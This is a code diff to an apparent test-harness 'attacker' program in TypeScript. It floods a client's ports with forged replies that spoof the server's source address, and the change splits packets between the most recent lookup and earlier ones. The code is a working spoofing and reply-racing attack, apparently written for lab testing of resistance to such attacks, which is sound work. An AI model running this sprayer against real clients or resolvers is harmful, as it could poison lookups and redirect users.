@@ -1,7 +1,7 @@
 /**
  * The attacker, as a program in its host. The first argument is a {@link Spray} as JSON. It sends forged replies with the server's
  * source address to every port that the client may use, as many as possible. A line on its standard input is a JSON list of the nodes
- * to forge from then on. When that ends, it prints a {@link SprayResult} as JSON.
+ * to forge from then on, in the order in which their lookups began. When that ends, it prints a {@link SprayResult} as JSON.
  */
 import { createInterface } from "node:readline";
 import { createCodec, ipFromText } from "../../src/codec/index.ts";
@@ -16,21 +16,56 @@ const BATCH = 128;
 /** How long it sends between two looks at the event loop. */
 const TURN_MS = 2;
 
-/** Tries each port with all targets before the next port. */
+/** Forged replies for some nodes. Each port is tried with all of the nodes before the next port. */
+class Sweep {
+  readonly #first: number;
+  readonly #last: number;
+  #port: number;
+  #nodes: readonly number[] = [];
+  #next = 0;
+
+  constructor([first, last]: Spray["ports"]) {
+    this.#first = first;
+    this.#last = last;
+    this.#port = first;
+  }
+
+  set nodes(nodes: readonly number[]) {
+    this.#nodes = nodes;
+  }
+
+  get empty(): boolean {
+    return this.#nodes.length === 0;
+  }
+
+  /** Goes on to the next packet. */
+  advance(): { readonly node: number; readonly port: number } {
+    if (this.#next >= this.#nodes.length) {
+      this.#next = 0;
+      this.#port = this.#port === this.#last ? this.#first : this.#port + 1;
+    }
+    return { node: this.#nodes[this.#next++]!, port: this.#port };
+  }
+}
+
+/** Half of the packets are for the node whose lookup began last, half for the others. */
 class Sprayer {
   sent = 0;
-  targets: readonly number[] = [0];
   readonly #socket: PacketSocket;
   readonly #frames: Frames;
-  readonly #ports: Spray["ports"];
-  #port: number;
-  #target = 0;
+  /** By node: the number of its payload. */
+  readonly #payloads: ReadonlyMap<number, number>;
+  readonly #latest: Sweep;
+  readonly #others: Sweep;
+  #turn = 0;
 
   constructor({ client, clientMac, server, serverPort, ports, nodes }: Spray) {
     const codec = createCodec({ backend: "ts" });
     const ip = ipFromText(FORGED.ip)!;
-    this.#ports = ports;
-    this.#port = ports[0];
+    this.#payloads = new Map(nodes.map((node, i) => [node, i]));
+    this.#latest = new Sweep(ports);
+    this.#others = new Sweep(ports);
+    this.target([nodes[0]!]);
     this.#frames = new Frames(BATCH, {
       family: "v4",
       destinationMac: clientMac,
@@ -44,15 +79,18 @@ class Sprayer {
     this.#socket = new PacketSocket(INTERFACE, this.#frames);
   }
 
+  /** @param nodes - in the order in which their lookups began; not empty */
+  target(nodes: readonly number[]): void {
+    this.#latest.nodes = nodes.slice(-1);
+    this.#others.nodes = nodes.slice(0, -1);
+  }
+
   send(): void {
-    const [first, last] = this.#ports;
+    const sweep = this.#turn++ % 2 === 0 || this.#others.empty ? this.#latest : this.#others;
     for (let i = 0; i < BATCH; i++) {
-      if (this.#target >= this.targets.length) {
-        this.#target = 0;
-        this.#port = this.#port === last ? first : this.#port + 1;
-      }
-      this.#frames.setPayload(i, this.targets[this.#target++]!);
-      this.#frames.setDestinationPort(i, this.#port);
+      const { node, port } = sweep.advance();
+      this.#frames.setPayload(i, this.#payloads.get(node)!);
+      this.#frames.setDestinationPort(i, port);
     }
     this.sent += this.#socket.send(BATCH);
   }
@@ -60,12 +98,11 @@ class Sprayer {
 
 const spray: Spray = JSON.parse(process.argv[2]!);
 const sprayer = new Sprayer(spray);
-const payloads = new Map(spray.nodes.map((node, i) => [node, i]));
 let ended = false;
 void (async () => {
   for await (const line of createInterface({ input: process.stdin })) {
     const targets: number[] = JSON.parse(line);
-    if (targets.length > 0) sprayer.targets = targets.map((node) => payloads.get(node)!);
+    if (targets.length > 0) sprayer.target(targets);
   }
   ended = true;
 })();
